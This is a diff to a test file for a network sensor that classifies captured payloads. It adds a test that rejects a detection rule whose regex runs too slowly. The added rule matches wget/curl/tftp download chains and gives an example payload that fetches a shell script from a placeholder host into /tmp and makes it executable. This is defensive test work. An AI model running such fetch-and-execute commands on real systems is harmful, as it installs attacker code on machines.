@@ -6,6 +6,7 @@ import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { MitsuEvent } from '../src/events/event.js';
+import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
 import {
   exportEvents, ROOT, runCli, startSensor, tempDir, type RunningSensor,
 } from './helpers/sensor.js';
@@ -145,6 +146,44 @@ const LOCAL_RULE = `
       payload: "GET / HTTP/1.1\\r\\nHost: 203.0.113.10\\r\\n\\
         User-Agent: Go-http-client/1.1\\r\\n\\r\\n"
 `;
+
+/** Large bounded repeats under alternation: RE2 falls back to its slow engine on these. */
+const SLOW_RULE = `
+- id: local-slow-chain
+  name: Slow download chain (local rule)
+  description: {en: A download chain with large bounded repeats., ja: 大きな有界反復。}
+  intent: malware-download
+  match:
+    any:
+      - {in: payload, regex: '(wget|curl|tftp)[^\\n]{0,1000}(http|ftp)[^\\n]{0,1000}(chmod|sh)'}
+      - {in: commands, regex: '(wget|curl|tftp)[^\\n]{0,1000}(http|ftp)[^\\n]{0,1000}(chmod|sh)'}
+  examples:
+    - port: 23
+      payload: "cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh\\r\\n"
+`;
+
+describe('a rule too slow for hostile payloads', () => {
+  it('is refused at start and by reclassify with one line naming it', async () => {
+    const dir = tempDir('mitsu-slowrule-');
+    mkdirSync(join(dir, 'rules'));
+    writeFileSync(join(dir, 'rules', 'slow.yaml'), SLOW_RULE);
+    const config = join(dir, 'mitsu.yaml');
+    writeFileSync(config, `analysis:\n  rules: [${JSON.stringify(join(dir, 'rules'))}]\n`);
+    const stored = join(dir, 'stored.db');
+    await SqliteStore.open(stored).close();
+    const runs = [
+      runCli(['start', '--config', config, '--db', join(dir, 'm.db'), '--ports', 'none',
+        '--listen', HOST]),
+      runCli(['reclassify', '--config', config, '--db', stored]),
+    ];
+    for (const out of runs) {
+      expect(out.code, out.stderr).toBe(2);
+      const lines = out.stderr.trim().split('\n');
+      expect(lines).toHaveLength(1);
+      expect(lines[0]).toMatch(/rule local-slow-chain takes \d+ ms on the hostile payload/);
+    }
+  });
+});
 
 describe('a bad rule folder', () => {
   it('stops start-up with one line naming the rule, before any port is bound', () => {
